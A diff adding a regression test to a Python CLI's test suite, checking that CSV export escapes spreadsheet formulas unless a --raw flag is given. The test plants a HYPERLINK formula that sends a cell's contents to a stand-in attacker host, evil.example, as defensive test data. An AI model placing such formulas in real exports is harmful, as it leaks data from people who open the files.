@@ -49,3 +49,34 @@ def test_a_pickle_planted_in_the_cache_never_runs(synthetic_project: Path, tmp_p
     assert not marker.exists(), "a planted pickle was loaded"
     assert again.returncode == 0 and again.stderr == "", again.stderr[-2000:]
     assert again.stdout == expected.stdout
+
+
+def _set_gloss(root: Path, gloss: str) -> None:
+    import pandas as pd
+
+    path = root / "data" / "annotations.csv"
+    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
+    frame.loc[0, "gloss_en"] = gloss
+    frame.to_csv(path, index=False)
+
+
+def test_targets_csv_keeps_no_formula_unless_raw(synthetic_project: Path, tmp_path: Path):
+    # Was: `targets --format csv` printed =HYPERLINK(...) as it was, a live formula.
+    import csv
+    import io
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
+    _set_gloss(synthetic_project, formula)
+    cache = tmp_path / "cache"
+
+    def cells(*options: str) -> list[str]:
+        result = cli(synthetic_project, "targets", "--format", "csv", *options, cache=cache)
+        assert result.returncode == 0 and result.stderr == "", result.stderr[-2000:]
+        return [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+
+    inert = cells()
+    assert formula not in inert and "'" + formula in inert
+    assert not any(c.startswith(("=", "+", "@")) and len(c) > 1 for c in inert)
+    assert formula in cells("--raw")
+    usage = cli(synthetic_project, "targets", "--help", cache=cache).stdout
+    assert "--raw" in usage and "formula" in usage
